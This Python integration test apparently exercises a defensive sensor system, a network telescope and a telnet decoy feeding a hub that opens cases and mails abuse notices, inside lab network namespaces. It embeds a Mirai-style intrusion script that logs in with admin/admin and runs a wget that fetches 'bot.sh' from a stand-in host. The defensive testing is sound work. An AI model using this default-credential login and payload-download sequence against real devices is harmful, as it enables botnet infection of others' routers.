#!/usr/bin/env python3
"""one_case_test - one device scans the dark space and then logs in to a decoy: one case of two sensors.

usage: one_case_test.py TELESCOPE DECOY HUB TRUST DIRECTORY CASE NOTICE

In namespaces: a member's device on one side; on the other a telescope, a decoy with the town hall, a hub
and Debian's aiosmtpd. Exactly one case, in which both sensors are, and one notice; when the device stops,
the notice closes itself. A second device that only logs in is a case of its own.
"""
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
import time
import unittest

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
import lab  # noqa: E402

TELESCOPE, DECOY, HUB, TRUST, DIRECTORY, CASE, NOTICE = [os.path.abspath(p) for p in sys.argv[1:8]]
PATIENCE = 60
CLOSING = 240  # sensors say once a minute that they watch
DEVICE, TWIN = lab.ADDRESS["member"], "192.52.193.78"
ROUTER = "10.61.1.254"
OWNERS = """organisation,name,name_ja,language,sector,holding,contact,role,channel
example-city,Example City,例市,en,government,192.52.193.0/24,abuse@city.example,abuse,mail
"""

# What a worm does at a router that lets it in.
INTRUSION = """
import socket, sys
s = socket.create_connection((%r, 23), timeout=30, source_address=(sys.argv[1], 0))
def until(word):
    text = b""
    while word not in text:
        got = s.recv(4096)
        if not got:
            sys.exit("%%r is not in %%r" %% (word, text))
        text += got
for word, line in ((b"ogin: ", "admin"), (b"assword: ", "admin"),
                   (b"# ", "cd /tmp; wget http://198.51.100.9/bot.sh -O b"), (b"Connecting", "")):
    until(word)
    s.sendall(line.encode() + b"\\r\\n")
""" % ROUTER


def run(*command):
    done = subprocess.run(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=120,
                          check=False)
    if done.returncode != 0:
        raise AssertionError("%s: %s%s" % (command, done.stdout.decode(), done.stderr.decode()))
    return done.stdout.decode()


def python_with_aiosmtpd():
    for python in (sys.executable, "/usr/bin/python3"):
        if shutil.which(python) and subprocess.run([python, "-c", "import aiosmtpd"], check=False,
                                                   stderr=subprocess.DEVNULL).returncode == 0:
            return python
    return None


@unittest.skipUnless(lab.possible(), "needs network namespaces")
class OneCase(unittest.TestCase):
    def setUp(self):
        self.python = python_with_aiosmtpd()
        if self.python is None:
            self.skipTest("needs python3-aiosmtpd")
        place = tempfile.TemporaryDirectory()
        self.addCleanup(place.cleanup)
        self.place = place.name
        os.chmod(self.place, 0o755)
        os.mkdir(self.path("mail"))
        self.lab = lab.Lab()
        self.lab.__enter__()
        self.addCleanup(self.lab.close)
        self.lead_here()

    def path(self, name):
        return os.path.join(self.place, name)

    def lead_here(self):
        """The town hall's addresses are the receiver's own, and members can be answered."""
        self.lab._ip(0, "addr add %s/32 dev %s" % (TWIN, self.lab.SENDER))
        self.lab._ip(0, "route add 10.61.0.0/16 via 192.31.196.254 dev %s" % self.lab.SENDER)
        self.lab._ip(1, "route add local 10.61.0.0/16 dev lo")
        self.lab._ip(1, "route add 192.52.193.0/24 dev %s" % self.lab.RECEIVER)
        for address in (DEVICE, TWIN):
            self.lab._ip(1, "neigh replace %s lladdr %s dev %s nud permanent"
                         % (address, self.lab.own, self.lab.RECEIVER))

    # ---- the parts ----

    def start(self, name, argv, ready=None, **kw):
        log = open(self.path(name + ".log"), "w+b")
        self.addCleanup(log.close)
        process = self.lab.start_receiver(argv, stderr=log, stdout=subprocess.DEVNULL, **kw)
        if ready is not None:
            self.wait_for(lambda: ready in self.log(name), "%s does not start" % name)
        return process

    def start_all(self):
        self.start("mail", [self.python, "-m", "aiosmtpd", "-n", "-c", "mail_sink.Keep", "-l",
                            "127.0.0.1:2525", self.path("mail")],
                   env=dict(os.environ, PYTHONPATH=HERE))
        run(TRUST, "init", "--dir", self.path("hub/trust"), "--hub", "127.0.0.1:8443")
        settings = ("listen=127.0.0.1:8443", "metrics=127.0.0.1:9464", "people=", "notice.send=yes",
                    "notice.sender=Example CERT", "notice.gather=0", "notice.watched=15s",
                    "mail.server=127.0.0.1:2525", "mail.tls=plain", "mail.from=hinomi@cert.example")
        argv = [HUB, "run", "--dir", self.path("hub")]
        for setting in settings:
            argv += ["--set", setting]
        self.start("hub", argv, b"event=hub.start")
        with open(self.path("owners.csv"), "w", encoding="utf-8") as file:
            file.write(OWNERS)
        run(DIRECTORY, "import", self.path("owners.csv"), "--dir", self.path("hub"))
        for name in ("tower", "decoy"):
            told = run(TRUST, "enrol", "--dir", self.path("hub/trust"), name)
            code = re.search(r"hinomi-join:\S+", told).group(0)
            run(*self.lab._inside(1, [TRUST, "join", code, "--dir", self.path(name)]))
        self.lab.start_capture(
            [TELESCOPE, "--live", self.lab.RECEIVER, "--dark", lab.DARK, "--member", lab.MEMBERS,
             "--road", self.path("tower"), "--user", "root", "--quiet"],
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        self.start("decoy", [DECOY, "run", "--dir", self.path("decoy"), "--set", "user=root"],
                   b"event=decoy.start")

    # ---- looking ----

    def log(self, name):
        with open(self.path(name + ".log"), "rb") as file:
            return file.read()

    def wait_for(self, what, message, deadline=PATIENCE):
        end = time.monotonic() + deadline
        while time.monotonic() < end:
            found = what()
            if found:
                return found
            time.sleep(0.1)
        logs = b"\n".join(self.log(name)[-1500:] for name in ("hub", "decoy"))
        return self.fail("%s\n%s" % (message, logs.decode(errors="replace")))

    def intrude(self, source):
        done = subprocess.run(self.lab._inside(0, [sys.executable, "-c", INTRUSION, source]),
                              capture_output=True, text=True, timeout=PATIENCE, check=False)
        self.assertEqual(done.returncode, 0, done.stderr)

    def cases(self):
        found = json.loads(run(CASE, "list", "--state", "all", "--dir", self.path("hub"), "--json"))
        return found["cases"] if isinstance(found, dict) else found

    def notices(self):
        return json.loads(run(NOTICE, "list", "--dir", self.path("hub"), "--json"))

    # ---- the story ----

    def test_two_sensors_one_case_one_notice_and_its_end(self):
        self.start_all()
        device = self.lab.start_sender(
            self.lab.imitate("mirai", DEVICE, count=100000, rate=50), stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL)
        self.wait_for(self.cases, "the telescope's finding opens no case")
        self.intrude(DEVICE)
        case, = self.cases()
        shown = self.wait_for(lambda: self.shown_with(case, "intruder", "dropper"),
                              "the decoy's findings are not in the case")
        self.assertIn("infected-member", shown)
        self.assertEqual(len(self.cases()), 1)
        self.wait_for(lambda: len(self.notices()) == 1, "no notice")

        device.kill()
        device.wait()
        self.wait_for(lambda: self.notices()[0]["state"] == "fixed", "the notice stays open",
                      CLOSING)
        self.assertEqual(len(self.notices()), 1)
        self.assertEqual(len(self.cases()), 1)

        # another device of the same owner: another case
        self.intrude(TWIN)
        self.wait_for(lambda: len(self.cases()) == 2, "the twin has no case of its own")

    def shown_with(self, case, *kinds):
        text = run(CASE, "show", str(case["id"]), "--dir", self.path("hub"), "--json")
        return text if all(kind in text for kind in kinds) else None


if __name__ == "__main__":
    lab.enter()
    unittest.main(argv=sys.argv[:1], verbosity=2)
